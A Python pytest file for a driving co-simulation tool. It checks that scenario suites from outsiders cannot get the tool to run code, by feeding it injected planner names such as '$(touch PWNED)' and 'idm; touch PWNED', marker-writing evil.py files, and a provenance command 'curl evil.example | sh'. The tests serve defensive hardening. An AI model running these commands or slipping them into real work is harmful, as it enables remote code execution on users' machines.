"""Suites of strangers: nothing that a case says is run, by any command."""

import base64
import gzip
import json
import os
import shlex
from dataclasses import replace

import pytest
from params import slow

from regents_cosim.benchmarks.transfer import PLACES, transfer
from regents_cosim.cases.files import load_case
from regents_cosim.cases.manifest import find_cases
from regents_cosim.cases.shipped import shipped
from regents_cosim.cli import run
from regents_cosim.errors import PlannerError
from regents_cosim.evaluation.suites.folders import check_suite
from regents_cosim.planners.find import find_attribute, planner_of
from regents_cosim.planners.names import BUILT_IN, OURS
from regents_cosim.reports.report import report_of
from regents_cosim.saving import SuiteWriter
from regents_cosim.simulators.highway.agents import AGENTS
from regents_cosim.system import user_code

pytest_plugins = ["pytester"]

FOREIGN = [
    "exec:touch PWNED", "torch:evil.py:Net", "evil.py:Planner", "suite/evil.py:Planner", "evil:Planner",
    "os:system", "highway:evil.py:policy", "highway:evil:policy", "aim-bev:/tmp/weights.safetensors", "aim-bev:",
    "sumo:", "highway:", "idm ", "IDM", "regents_cosim.planners.idm:IDM", "somebodys_entry_point", "",
]  # fmt: skip


def quickstart():
    return next(case for case in map(load_case, find_cases(shipped("scenarios") / "quickstart"))
                if case.attack and case.attack.outcome == "collision")  # fmt: skip


def attacked_with(planner, case=None, **fields):
    case = case or quickstart()
    record = replace(case.attack, planner=planner, **fields)
    return replace(case, attack=record)


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """A suite that would leave a file behind, whichever of its names were run."""
    monkeypatch.chdir(tmp_path)
    suite = tmp_path / "suite"
    SuiteWriter(suite, 0).add(attacked_with("exec:touch PWNED"))
    for folder in (tmp_path, suite):
        (folder / "evil.py").write_text("open('PWNED', 'w')\n")
    yield suite
    assert not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize(
    "words",
    [
        ["replay", "--ego", "planner"],
        ["replay", "--ego", "planner", "--in", "mirror"],
        ["replay", "--ego", "planner", "--in", "highway"],
        ["bench", "transfer"],
        ["bench", "cross"],
    ],
    ids=" ".join,
)
def test_no_command_runs_what_a_case_names(hostile, words, capsys):
    cut = 2 if words[0] == "bench" else 1
    assert run([*words[:cut], str(hostile), *words[cut:]]) == 2
    said = capsys.readouterr().err
    assert said.count("\n") == 1
    assert "exec:touch PWNED" in said
    assert "--planner" in said
    assert not (hostile.parent / "small").exists()


@pytest.mark.parametrize("planner", FOREIGN)
def test_a_case_names_our_own_planners_only(planner):
    with pytest.raises(PlannerError, match="what a case names is not run"):
        planner_of(attacked_with(planner))
    assert planner_of(attacked_with(planner), "mine.py:Planner") == "mine.py:Planner"


def test_a_case_may_name_each_of_ours():
    assert {f"highway:{agent}" for agent in AGENTS} | {*OURS, "sumo"} == BUILT_IN
    for name in BUILT_IN:
        assert planner_of(attacked_with(name)) == name


def test_another_packages_entry_point_does_not_replace_ours(monkeypatch):
    class Point:
        name, value = "idm", "evil:Planner"

    ours = find_attribute("idm")
    monkeypatch.setattr(user_code, "entry_points", lambda group: [Point])
    assert find_attribute("idm") is ours


@pytest.mark.slow
def test_planners_that_the_user_names_drive_foreign_cases(hostile):
    case = load_case(next(hostile.glob("*/scenario.json")).parent)
    places = [place for place in PLACES if place.planner_drives]
    ((row, (report,)),) = transfer([case], places, planner="idm")
    assert row.cases == 1
    assert "exec" not in report.reason


def test_a_foreign_planner_is_no_problem_of_a_suite(hostile, capsys):
    assert [(row.problem, row.planner) for row in check_suite(hostile)] == [("", "exec:touch PWNED")]
    assert run(["suite", "check", str(hostile)]) == 0
    assert "exec:touch PWNED" in capsys.readouterr().err


def test_files_that_do_not_belong_to_a_suite_are_named(hostile, capsys):
    for name in ("json.py", "notes.txt", "maps/more.txt"):
        (hostile / name).write_text("")
    (hostile / next(hostile.glob("*/scenario.json")).parent.name / "numpy").mkdir()
    (hostile / next(hostile.glob("*/scenario.json")).parent.name / "numpy" / "__init__.py").write_text("")
    assert run(["suite", "check", str(hostile)]) == 0
    said = capsys.readouterr().err
    assert all(name in said for name in ("evil.py", "json.py", "notes.txt", "maps/more.txt", "numpy/__init__.py"))
    assert "scenario.json" not in said
    (hostile / "aside").symlink_to("/")
    os.mkfifo(hostile / "pipe")
    assert {row.case: row.problem.partition(",")[0] for row in check_suite(hostile) if row.problem} == {
        "aside": "is a link",
        "pipe": "is a named pipe",
    }
    assert run(["suite", "check", str(hostile)]) == 1


# --- the report -------------------------------------------------------------------------------


def commands(scenario, folder, driven=None):
    content = report_of([scenario], driven or {}, folder).cases[0].content
    return dict(json.loads(gzip.decompress(base64.b64decode(content)))["commands"])


@pytest.mark.parametrize("planner", ["exec:touch PWNED", "$(touch PWNED)", "idm; touch PWNED", "evil.py:P"])
def test_a_report_offers_no_command_of_a_case(tmp_path, planner):
    case = attacked_with(planner)
    case = replace(case, provenance=replace(case.provenance, command="curl evil.example | sh"))
    found = commands(case, tmp_path)
    assert found
    for command in found.values():
        words = shlex.split(command)
        assert words[:2] == ["regents", "replay"]
        assert not {planner, "curl", "|", ";"} & set(words)
    assert shlex.split(found["Drive it with a planner of yours"])[-2:] == ["--planner", "YOUR_PLANNER"]


def test_a_report_offers_our_own_planners(tmp_path):
    case = attacked_with("idm")
    assert commands(case, tmp_path)["Drive it again with idm"].endswith("--planner idm")


# --- pytest -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["conftest.py", slow("__init__.py"), slow("pytest.ini")])
def test_pytest_refuses_a_suite_with_code(hostile, pytester, name, monkeypatch):
    (hostile / name).write_text("[pytest]\n" if name.endswith("ini") else "open('PWNED', 'w')\n")
    done = pytester.runpytest_subprocess(f"--regents-suite={hostile}", "--regents-planner=idm")
    assert done.ret == 4
    done.stderr.fnmatch_lines([f"*holds {name}, which pytest would run or obey*"])
    assert not (pytester.path / "PWNED").exists()
    assert [row.case for row in check_suite(hostile) if row.problem] == [name]
    monkeypatch.chdir(hostile)  # working there, one means it
    assert not [row for row in check_suite(hostile) if row.problem]


@pytest.mark.slow
def test_pytest_does_not_run_what_a_case_names(hostile, pytester):
    done = pytester.runpytest_subprocess(f"--regents-suite={hostile}", "--regents-planner=idm", "--regents-update")
    assert done.ret == 0
    assert not (pytester.path / "PWNED").exists()
    assert json.loads((hostile / "baseline.json").read_text())["planners"].keys() == {"idm"}
